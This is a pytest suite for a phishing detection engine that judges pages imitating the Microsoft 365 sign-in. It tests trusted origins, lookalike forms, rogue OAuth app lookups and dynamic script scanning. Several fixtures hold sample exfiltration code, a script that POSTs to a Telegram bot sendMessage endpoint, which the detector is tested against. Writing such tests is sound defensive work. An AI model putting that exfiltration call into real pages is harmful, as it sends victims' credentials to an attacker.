"""End-to-end tests for the detection engine."""

import asyncio

import pytest

from conftest import LOOKALIKE_HTML, PLAIN_HTML, PROXY_HTML
from m365guard.analyzer.engine import DetectionEngine
from m365guard.analyzer.indicators import PhishingIndicatorScanner
from m365guard.analyzer.rogue_apps import RogueAppMatch
from m365guard.analyzer.rule_store import RuleStore, StaticRuleSource
from m365guard.analyzer.snapshot import PageSnapshot
from m365guard.config import ProtectionSettings
from m365guard.constants import Verdict
from m365guard.errors import RuleLoadError

TRUSTED_URL = "https://login.microsoftonline.com/common/oauth2/authorize"

# Recognized login markup with no form at all: nothing for the blocking
# rules or the legitimacy rules to work with.
BARE_LOGIN_HTML = """
<html><head><style>body { font-family: "Segoe UI"; }</style></head>
<body>
  <p>Sign in to your account</p>
  <script>var partner = "idPartnerPL"; var field = "loginfmt";</script>
</body></html>
"""

TELEGRAM_SCRIPT = "<script>fetch('https://api.telegram.org/bot123:abc/sendMessage', {method: 'POST'})</script>"


class FakeRogueLookup:
    def __init__(self, rogue_ids=(), delay: float = 0.0):
        self.rogue_ids = {i.lower() for i in rogue_ids}
        self.delay = delay
        self.calls: list[str] = []

    async def lookup(self, client_id: str) -> RogueAppMatch:
        self.calls.append(client_id)
        if self.delay:
            await asyncio.sleep(self.delay)
        if client_id.lower() in self.rogue_ids:
            return RogueAppMatch(
                is_rogue=True,
                client_id=client_id.lower(),
                app_name="Mail Sync Pro",
                description="Consent phishing app",
            )
        return RogueAppMatch()


class SpyScanner(PhishingIndicatorScanner):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def scan(self, *args, **kwargs):
        self.calls += 1
        return super().scan(*args, **kwargs)


class FailingSource:
    name = "unreachable"

    async def fetch(self):
        raise OSError("connection refused")


@pytest.fixture
def make_engine(rules_data):
    def _make(**kwargs) -> DetectionEngine:
        store = RuleStore(StaticRuleSource(rules_data))
        return DetectionEngine(store, **kwargs)

    return _make


class TestScenarios:
    @pytest.mark.asyncio
    async def test_trusted_login_origin(self, make_engine):
        verdict = await make_engine().evaluate(TRUSTED_URL, PageSnapshot(TRUSTED_URL, LOOKALIKE_HTML))
        assert verdict.verdict == Verdict.TRUSTED
        assert verdict.score == 100
        assert verdict.threats == []

    @pytest.mark.asyncio
    async def test_lookalike_is_blocked_by_form_action(self, make_engine):
        url = "https://evil-lookalike.example/login"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, LOOKALIKE_HTML))
        assert verdict.verdict == Verdict.BLOCKED
        assert verdict.is_blocked
        assert verdict.rule_id == "form_action_validation"
        assert "evil-lookalike.example/submit" in verdict.reason
        assert verdict.recognized is True

    @pytest.mark.asyncio
    async def test_plain_page_is_safe(self, make_engine):
        url = "https://garden.example/"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, PLAIN_HTML))
        assert verdict.verdict == Verdict.SAFE
        assert verdict.threats == []
        assert verdict.recognized is False

    @pytest.mark.asyncio
    async def test_proxy_page_is_suspicious(self, make_engine):
        url = "https://proxy.example/login"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, PROXY_HTML))
        assert verdict.verdict == Verdict.SUSPICIOUS
        assert verdict.severity == "medium"
        assert verdict.score == pytest.approx(80)
        assert verdict.threshold == 85
        assert [t.id for t in verdict.threats] == ["phi_urgent"]
        assert not verdict.is_blocked


class TestOrigins:
    @pytest.mark.asyncio
    async def test_trusted_origin_skips_scanning(self, make_engine):
        scanner = SpyScanner()
        page = PageSnapshot(TRUSTED_URL, PROXY_HTML + TELEGRAM_SCRIPT)
        verdict = await make_engine(scanner=scanner).evaluate(TRUSTED_URL, page)
        assert verdict.verdict == Verdict.TRUSTED
        assert scanner.calls == 0

    @pytest.mark.asyncio
    async def test_rogue_app_on_trusted_origin(self, make_engine):
        url = f"{TRUSTED_URL}?client_id=ABC-123&response_type=code"
        lookup = FakeRogueLookup(rogue_ids=["abc-123"])
        verdict = await make_engine(rogue_lookup=lookup).evaluate(url, PageSnapshot(url, ""))
        assert verdict.verdict == Verdict.ROGUE_APP
        assert verdict.client_id == "ABC-123"
        assert "Mail Sync Pro" in verdict.reason
        assert verdict.rogue_app["appName"] == "Mail Sync Pro"
        assert lookup.calls == ["ABC-123"]

    @pytest.mark.asyncio
    async def test_rogue_lookup_timeout_is_not_rogue(self, make_engine):
        url = f"{TRUSTED_URL}?client_id=abc-123"
        lookup = FakeRogueLookup(rogue_ids=["abc-123"], delay=1.0)
        engine = make_engine(rogue_lookup=lookup, rogue_lookup_timeout=0.01)
        verdict = await engine.evaluate(url, PageSnapshot(url, ""))
        assert verdict.verdict == Verdict.TRUSTED

    @pytest.mark.asyncio
    async def test_rogue_app_on_recognized_page(self, make_engine):
        url = "https://proxy.example/login?client_id=abc-123"
        engine = make_engine(rogue_lookup=FakeRogueLookup(rogue_ids=["abc-123"]))
        verdict = await engine.evaluate(url, PageSnapshot(url, LOOKALIKE_HTML))
        assert verdict.verdict == Verdict.ROGUE_APP

    @pytest.mark.asyncio
    @pytest.mark.parametrize("url", ["https://www.office.com/launch", "https://github.com/org/repo"])
    async def test_microsoft_and_excluded_origins_are_safe(self, make_engine, url):
        verdict = await make_engine().evaluate(url, PageSnapshot(url, LOOKALIKE_HTML + TELEGRAM_SCRIPT))
        assert verdict.verdict == Verdict.SAFE
        assert verdict.threats == []


class TestVerdicts:
    @pytest.mark.asyncio
    async def test_critical_indicator_blocks_recognized_page(self, make_engine):
        url = "https://proxy.example/login"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, PROXY_HTML + TELEGRAM_SCRIPT))
        assert verdict.verdict == Verdict.BLOCKED
        assert verdict.severity == "critical"
        assert "phi_telegram" in verdict.reason

    @pytest.mark.asyncio
    async def test_critical_indicator_blocks_unrecognized_page(self, make_engine):
        url = "https://drop.example/"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, PLAIN_HTML + TELEGRAM_SCRIPT))
        assert verdict.verdict == Verdict.BLOCKED
        assert verdict.recognized is False

    @pytest.mark.asyncio
    async def test_non_critical_indicator_on_unrecognized_page_is_suspicious(self, make_engine):
        url = "https://news.example/"
        html = "<p>Please verify your account now or lose access.</p>"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, html))
        assert verdict.verdict == Verdict.SUSPICIOUS
        assert verdict.severity == "medium"

    @pytest.mark.asyncio
    async def test_very_low_legitimacy_blocks(self, make_engine):
        url = "https://bare.example/"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, BARE_LOGIN_HTML))
        assert verdict.verdict == Verdict.BLOCKED
        assert verdict.severity == "high"
        assert verdict.score == 0

    @pytest.mark.asyncio
    async def test_legitimate_enough_is_safe(self, make_engine, rules_data):
        rules_data["thresholds"]["legitimate"] = 70
        url = "https://proxy.example/login"
        verdict = await make_engine().evaluate(url, PageSnapshot(url, PROXY_HTML))
        assert verdict.verdict == Verdict.SAFE
        assert verdict.score == pytest.approx(80)

    @pytest.mark.asyncio
    async def test_protection_disabled_keeps_blocked_verdict(self, make_engine):
        url = "https://evil-lookalike.example/login"
        settings = ProtectionSettings(protection_enabled=False)
        verdict = await make_engine().evaluate(url, PageSnapshot(url, LOOKALIKE_HTML), settings)
        assert verdict.verdict == Verdict.BLOCKED
        assert not verdict.is_blocked

    @pytest.mark.asyncio
    async def test_metrics_are_recorded(self, make_engine):
        engine = make_engine()
        url = "https://evil-lookalike.example/login"
        await engine.evaluate(url, PageSnapshot(url, LOOKALIKE_HTML))
        await engine.evaluate("https://garden.example/", PageSnapshot("https://garden.example/", PLAIN_HTML))
        summary = engine.metrics.get_summary()
        assert summary["verdicts"] == {"blocked": 1, "safe": 1}
        assert summary["blocking_rules"] == {"form_action_validation": 1}


class TestRuleFailures:
    @pytest.mark.asyncio
    async def test_rule_load_error_propagates(self):
        engine = DetectionEngine(RuleStore(FailingSource()))
        with pytest.raises(RuleLoadError):
            await engine.evaluate("https://x.example/", PageSnapshot("https://x.example/", PLAIN_HTML))

    def test_fallback_check(self):
        login = PageSnapshot("https://evil.example/", '<input name="loginfmt">')
        assert DetectionEngine.fallback_check(login.url, login)
        genuine = PageSnapshot("https://login.microsoftonline.com/", '<input id="i0116">')
        assert not DetectionEngine.fallback_check(genuine.url, genuine)
        plain = PageSnapshot("https://garden.example/", PLAIN_HTML)
        assert not DetectionEngine.fallback_check(plain.url, plain)


class TestDynamicScript:
    @pytest.mark.asyncio
    async def test_finding_produces_verdict(self, make_engine):
        verdict = await make_engine().scan_dynamic_script(
            "https://drop.example/", "fetch('https://api.telegram.org/bot1/sendMessage')"
        )
        assert verdict.verdict == Verdict.BLOCKED
        assert verdict.reason.startswith("Dynamic script:")
        assert [t.matched_in for t in verdict.threats] == ["dynamic_script"]

    @pytest.mark.asyncio
    async def test_nothing_matched(self, make_engine):
        assert await make_engine().scan_dynamic_script("https://drop.example/", "console.log(1)") is None

    @pytest.mark.asyncio
    async def test_trusted_origin_not_scanned(self, make_engine):
        result = await make_engine().scan_dynamic_script(TRUSTED_URL, "api.telegram.org/bot1")
        assert result is None
